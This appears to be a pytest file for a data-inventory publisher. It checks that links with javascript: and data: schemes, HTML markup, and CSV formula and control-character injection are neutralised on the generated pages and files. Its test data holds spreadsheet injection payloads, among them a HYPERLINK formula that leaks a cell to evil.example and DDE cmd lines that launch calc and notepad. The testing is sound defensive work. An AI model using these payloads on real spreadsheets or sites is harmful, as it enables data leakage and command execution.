"""Hostile values in the published inventory: a link with another scheme than http(s)
or mailto: is shown as text, never followed; markup in any text is shown as text; a CSV
cell never starts a spreadsheet formula; inventory.json keeps every value as stored.

The values are written straight into the store, past the loader's checks, because the
pages must defend themselves whatever the store holds (see `hostile_store`)."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient

from api.inventory import build_site
from api.inventory.routes import make_routes
from graph.embedded.store import EmbeddedStore

from .publish_support import AS_OF, CONTACT, FORMULAS, GOOD_LINK, MARKUP, hostile_store, links, readable, row_texts


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> EmbeddedStore:
    return hostile_store(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def site(store: EmbeddedStore) -> dict[str, bytes]:
    return build_site(store, AS_OF)


def pages(site: dict[str, bytes]) -> dict[str, bytes]:
    return {path: content for path, content in site.items() if path.endswith(".html")}


# --- links ---------------------------------------------------------------------------------


def test_no_page_links_to_another_scheme_than_http_or_mailto(site: dict[str, bytes]) -> None:
    assert len(pages(site)) == 9
    found = {href for content in pages(site).values() for href in links(content).hrefs}
    bad = sorted(h for h in found if urlsplit(h).scheme.lower() not in ("", "http", "https", "mailto")
                 or any(c.isspace() or ord(c) < 32 for c in h))
    assert not bad, bad
    # Nothing hostile reached an href in any spelling; the good links are still links.
    raw = b"".join(pages(site).values()).decode("utf-8").lower()
    assert "script:" not in raw.replace("javascript:alert", "") and "href=\"data:" not in raw
    assert GOOD_LINK in found and "mailto:privacy@example.org" in found


def test_a_refused_link_still_shows_its_text(site: dict[str, bytes]) -> None:
    policies, acme = readable(site["inventory/policies.html"]), readable(site["inventory/org-acme-learning.html"])
    assert "Student data privacy policy" in policies
    assert "Agreement: dpa-acme" in acme and "Consent: Yearbook photo release" in acme
    assert "Website JaVaScRiPt:alert('acme')" in acme  # shown as words, not as a link


def test_the_live_pages_refuse_them_too(store: EmbeddedStore, site: dict[str, bytes]) -> None:
    app = Starlette(routes=make_routes(store, lambda: AS_OF))
    with TestClient(app) as client:
        for path in ("inventory.html", "inventory/org-acme-learning.html", "inventory/policies.html"):
            body = client.get(f"/{path}").content
            assert body == site[path]
            assert not [h for h in links(body).hrefs if "script" in h.lower() or h.startswith("data:")]


# --- markup ----------------------------------------------------------------------------------


class Tags(HTMLParser):
    """Every element and attribute name of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def test_markup_in_any_text_is_shown_as_text_on_every_page(site: dict[str, bytes]) -> None:
    for path, content in pages(site).items():
        parser = Tags()
        parser.feed(content.decode("utf-8"))
        assert not parser.tags & {"script", "img", "svg", "b"}, path
        assert not [a for a in parser.attributes if a.startswith("on")], path
        text = readable(content)
        # The publisher and its contact are named on every page, quotes and brackets intact.
        assert MARKUP in text and CONTACT in text, path
    # The element's name, its definition and its purpose's name, each as it was written.
    row = row_texts(site["inventory.html"]).text("el-student-birth-date")
    assert row.count(MARKUP) == 3 and "\"'><b>ref</b>" in row


# --- CSV and JSON ----------------------------------------------------------------------------


def csv_cells(site: dict[str, bytes]) -> dict[str, dict[str, str]]:
    text = site["inventory.csv"].decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert all(len(row) == 14 and None not in row for row in rows)  # every row parses whole
    return {row["id"]: row for row in rows}


def test_no_csv_cell_starts_a_formula_or_carries_a_control_character(site: dict[str, bytes]) -> None:
    rows = csv_cells(site)
    assert len(rows) == len(FORMULAS) + 1
    assert rows["formula-sum"]["name"] == "'=1+2"
    assert rows["formula-sum"]["definition"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["formula-link"]["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    assert rows["formula-link"]["definition"] == "'+1 more"
    assert rows["formula-minus"]["name"] == "'-2+3"
    assert rows["formula-minus"]["definition"] == "' =cmd|' /C notepad'!A0"
    assert rows["formula-cr"]["name"] == "' =1+1"
    assert rows["controls"]["name"] == "Bidi evil name"
    assert rows["controls"]["definition"] == "NUL ESC[31m red second line"
    assert all(row["standard_ref"] == "'=2*3" for row in rows.values() if row["id"] != "student-birth-date")
    for row in rows.values():
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
            assert not [c for c in cell if ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or 0x202A <= ord(c) <= 0x202E]
    assert rows["student-birth-date"]["name"] == MARKUP  # text that is no formula stays as it is


def test_inventory_json_keeps_the_values_as_stored(site: dict[str, bytes]) -> None:
    elements = {e["id"]: e for e in json.loads(site["inventory.json"])["elements"]}
    for element_id, name, definition in FORMULAS:
        assert elements[element_id]["name"] == name and elements[element_id]["definition"] == definition
        assert elements[element_id]["standard_ref"] == "=2*3"
